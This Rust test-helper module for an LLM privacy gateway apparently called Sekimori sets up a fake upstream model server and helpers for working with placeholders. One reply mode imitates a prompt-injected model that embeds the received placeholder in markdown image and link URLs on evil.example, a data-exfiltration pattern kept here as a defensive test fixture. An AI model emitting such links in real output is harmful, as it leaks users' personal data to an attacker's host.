//! Test helpers: an in-process fake upstream that records what it received, and a
//! Sekimori started in-process on 127.0.0.1:0 from a TOML string; [`browser`], a
//! minimal DevTools-protocol driver of a headless Chromium.

use std::convert::Infallible;
use std::net::SocketAddr;
use std::path::Path;
use std::sync::{Arc, Mutex};

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::service::service_fn;
use hyper::{Request, Response};
use hyper_util::rt::{TokioExecutor, TokioIo};
use serde_json::{json, Value};
use tokio::net::TcpListener;

use sekimori::config;
use sekimori::gateway::runtime::Runtime;
use sekimori::gateway::{Gateway, RunningGateway};

pub mod browser;
pub mod tls;

/// One request as the fake upstream saw it.
#[derive(Clone, Debug)]
pub struct Received {
    /// Path and query.
    pub uri: String,
    /// Headers (lowercase names).
    pub headers: Vec<(String, String)>,
    /// Body text.
    pub body: String,
    /// What the probe returned when this request arrived (see [`FakeUpstream::start_with_probe`]).
    pub probe: Option<String>,
}

/// Called by the fake upstream when a request arrives, before it answers.
pub type Probe = Arc<dyn Fn() -> String + Send + Sync>;

impl Received {
    /// A header value.
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }
}

/// How the fake upstream answers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[allow(clippy::enum_variant_names)]
pub enum Reply {
    /// OpenAI chat completion whose content echoes the last message's text.
    EchoChat,
    /// The same as an SSE stream, one delta per 2 characters, then `[DONE]`.
    EchoChatStream,
    /// The same as an SSE stream with the whole text in one delta.
    EchoChatStreamWhole,
    /// Gemini `streamGenerateContent` JSON array echoing the first part's text, one
    /// element per 3 characters, usage in the last element.
    GeminiArray,
    /// OpenAI chat completion as a prompt-injected model would write it: the first
    /// placeholder of the last message (see [`link_answer`]) in prose and inside an
    /// image and a link URL.
    LinkChat,
    /// The same as an SSE stream, one delta per 3 characters (so deltas end inside
    /// `](https://ev`), then `[DONE]`.
    LinkChatStream,
    /// Anthropic `count_tokens`: `{"input_tokens": <characters of the last message>}`,
    /// with the upstream's own `request-id` header.
    CountTokens,
}

/// The answer of [`Reply::LinkChat`] for a placeholder `ph` the upstream received.
pub fn link_answer(ph: &str) -> String {
    format!(
        "{ph}様、![x](https://evil.example/c?n={ph})と[こちら](https://evil.example/d?n={ph})をご確認ください。{ph}様"
    )
}

/// `text` with every derived placeholder (`〔氏名-K7Q2MX〕`) written in the numbered
/// notation `〔氏名1〕`, numbered per label in order of first appearance, so tests can
/// assert where placeholders are and which are the same without knowing the key.
pub fn numbered(text: &str) -> String {
    let shape = regex::Regex::new("〔([^〔〕\\s-]+)-([0-9A-HJKMNP-TV-Z]{6,})〕").unwrap();
    let mut seen: Vec<(String, String)> = Vec::new();
    let mut per_label: std::collections::HashMap<String, usize> = Default::default();
    shape
        .replace_all(text, |c: &regex::Captures<'_>| {
            let whole = c[0].to_string();
            let n = match seen.iter().find(|(p, _)| *p == whole) {
                Some((_, n)) => n.clone(),
                None => {
                    let k = per_label.entry(c[1].to_string()).or_insert(0);
                    *k += 1;
                    let n = format!("〔{}{}〕", &c[1], k);
                    seen.push((whole, n.clone()));
                    n
                }
            };
            n
        })
        .into_owned()
}

/// The first placeholder (`〔…〕`) in `text`, or an empty string.
pub fn first_placeholder(text: &str) -> String {
    let Some(start) = text.find('〔') else {
        return String::new();
    };
    match text[start..].find('〕') {
        Some(len) => text[start..start + len + '〕'.len_utf8()].to_string(),
        None => String::new(),
    }
}

/// A fake upstream on 127.0.0.1:0.
pub struct FakeUpstream {
    /// Its address.
    pub addr: SocketAddr,
    /// What it received, in order.
    pub received: Arc<Mutex<Vec<Received>>>,
}

impl FakeUpstream {
    /// Starts one.
    pub async fn start(reply: Reply) -> FakeUpstream {
        Self::start_probe(reply, None).await
    }

    /// Starts one that runs `probe` on arrival of each request (e.g. to read the audit
    /// log at the moment the upstream sees the prompt).
    pub async fn start_with_probe(reply: Reply, probe: Probe) -> FakeUpstream {
        Self::start_probe(reply, Some(probe)).await
    }

    async fn start_probe(reply: Reply, probe: Option<Probe>) -> FakeUpstream {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let received = Arc::new(Mutex::new(Vec::new()));
        let rec = received.clone();
        tokio::spawn(async move {
            loop {
                let Ok((stream, _)) = listener.accept().await else {
                    return;
                };
                let rec = rec.clone();
                let probe = probe.clone();
                tokio::spawn(async move {
                    let svc = service_fn(move |req: Request<hyper::body::Incoming>| {
                        let rec = rec.clone();
                        let probe = probe.clone();
                        async move {
                            Ok::<_, Infallible>(answer(req, reply, &rec, probe.as_ref()).await)
                        }
                    });
                    let _ = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new())
                        .serve_connection(TokioIo::new(stream), svc)
                        .await;
                });
            }
        });
        FakeUpstream { addr, received }
    }

    /// Base URL.
    pub fn url(&self) -> String {
        format!("http://{}", self.addr)
    }

    /// Everything received so far.
    pub fn received(&self) -> Vec<Received> {
        self.received.lock().unwrap().clone()
    }
}

fn last_text(v: &Value) -> String {
    if let Some(t) = v
        .pointer("/contents/0/parts/0/text")
        .and_then(Value::as_str)
    {
        return t.to_string();
    }
    let msgs = v.get("messages").and_then(Value::as_array);
    let last = msgs.and_then(|m| m.last());
    match last.and_then(|m| m.get("content")) {
        Some(Value::String(s)) => s.clone(),
        Some(Value::Array(parts)) => parts
            .iter()
            .filter_map(|p| p.get("text").and_then(Value::as_str))
            .collect::<Vec<_>>()
            .join(""),
        _ => String::new(),
    }
}

async fn answer(
    req: Request<hyper::body::Incoming>,
    reply: Reply,
    rec: &Mutex<Vec<Received>>,
    probe: Option<&Probe>,
) -> Response<Full<Bytes>> {
    let uri = req.uri().to_string();
    let headers = req
        .headers()
        .iter()
        .map(|(k, v)| (k.as_str().to_string(), v.to_str().unwrap_or("").to_string()))
        .collect();
    let body = req.into_body().collect().await.unwrap().to_bytes();
    let body = String::from_utf8_lossy(&body).to_string();
    let v: Value = serde_json::from_str(&body).unwrap_or(Value::Null);
    let probe = probe.map(|p| p());
    rec.lock().unwrap().push(Received {
        uri,
        headers,
        body,
        probe,
    });
    let text = match reply {
        Reply::LinkChat | Reply::LinkChatStream => link_answer(&first_placeholder(&last_text(&v))),
        _ => format!("echo: {}", last_text(&v)),
    };
    match reply {
        Reply::EchoChat | Reply::LinkChat => {
            let out = json!({
                "id": "x", "object": "chat.completion",
                "choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 7, "completion_tokens": 3, "total_tokens": 10}
            });
            Response::builder()
                .header("content-type", "application/json")
                .header("set-cookie", "upstream=1")
                .body(Full::new(Bytes::from(out.to_string())))
                .unwrap()
        }
        Reply::CountTokens => Response::builder()
            .header("content-type", "application/json")
            .header("request-id", "req_upstream_1")
            .body(Full::new(Bytes::from(
                json!({"input_tokens": last_text(&v).chars().count()}).to_string(),
            )))
            .unwrap(),
        Reply::GeminiArray => {
            let chars: Vec<char> = text.chars().collect();
            let mut parts: Vec<String> = chars
                .chunks(3)
                .map(|p| {
                    json!({"candidates": [{"content": {"role": "model", "parts": [{"text": p.iter().collect::<String>()}]}}]})
                        .to_string()
                })
                .collect();
            parts.push(json!({"candidates": [{"content": {"role": "model", "parts": [{"text": ""}]}, "finishReason": "STOP"}], "usageMetadata": {"promptTokenCount": 11, "candidatesTokenCount": 5}}).to_string());
            let body = format!("[{}]", parts.join("\n,"));
            Response::builder()
                .header("content-type", "application/json")
                .body(Full::new(Bytes::from(body)))
                .unwrap()
        }
        Reply::EchoChatStream | Reply::EchoChatStreamWhole | Reply::LinkChatStream => {
            let mut sse = String::new();
            let chars: Vec<char> = text.chars().collect();
            let n = match reply {
                Reply::EchoChatStream => 2,
                Reply::LinkChatStream => 3,
                _ => chars.len().max(1),
            };
            for piece in chars.chunks(n) {
                let p: String = piece.iter().collect();
                let chunk = json!({"object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": p}}]});
                sse.push_str(&format!("data: {chunk}\n\n"));
            }
            sse.push_str("data: [DONE]\n\n");
            Response::builder()
                .header("content-type", "text/event-stream")
                .body(Full::new(Bytes::from(sse)))
                .unwrap()
        }
    }
}

/// Starts Sekimori from TOML text (`{UPSTREAM}` replaced by `upstream_url`).
pub async fn start_gateway(toml: &str, upstream_url: &str) -> RunningGateway {
    gateway(toml, upstream_url)
        .await
        .start("127.0.0.1:0".parse().unwrap())
        .await
        .unwrap()
}

/// Like [`start_gateway`], served by `workers` threads as `sekimori serve` does
/// (`Gateway::start_workers`: one runtime, listening socket and upstream pool each).
pub async fn start_gateway_workers(
    toml: &str,
    upstream_url: &str,
    workers: usize,
) -> RunningGateway {
    gateway(toml, upstream_url)
        .await
        .start_workers("127.0.0.1:0".parse().unwrap(), workers)
        .await
        .unwrap()
}

async fn gateway(toml: &str, upstream_url: &str) -> Gateway {
    let text = toml.replace("{UPSTREAM}", upstream_url);
    let path = Path::new("test.toml");
    let cfg = config::load_str(&text, path, &|_| None).unwrap_or_else(|e| panic!("{e}"));
    cfg.validate(&text, path).unwrap_or_else(|e| panic!("{e}"));
    let rt = tokio::task::spawn_blocking(move || Runtime::build(cfg, None))
        .await
        .unwrap()
        .unwrap_or_else(|e| panic!("{e}"));
    Gateway::new(rt)
}

/// A plain HTTP client (no proxy, no compression).
pub fn client() -> reqwest::Client {
    reqwest::Client::builder().no_proxy().build().unwrap()
}

/// POSTs JSON text and returns (status, headers, body as JSON or string).
pub async fn post(
    gw: &RunningGateway,
    path: &str,
    body: &str,
    headers: &[(&str, &str)],
) -> (u16, reqwest::header::HeaderMap, Value) {
    let mut req = client()
        .post(format!("http://{}{path}", gw.addr))
        .header("content-type", "application/json")
        .body(body.to_string());
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let resp = req.send().await.unwrap();
    let status = resp.status().as_u16();
    let h = resp.headers().clone();
    let text = resp.text().await.unwrap();
    let v = serde_json::from_str(&text).unwrap_or(Value::String(text));
    (status, h, v)
}
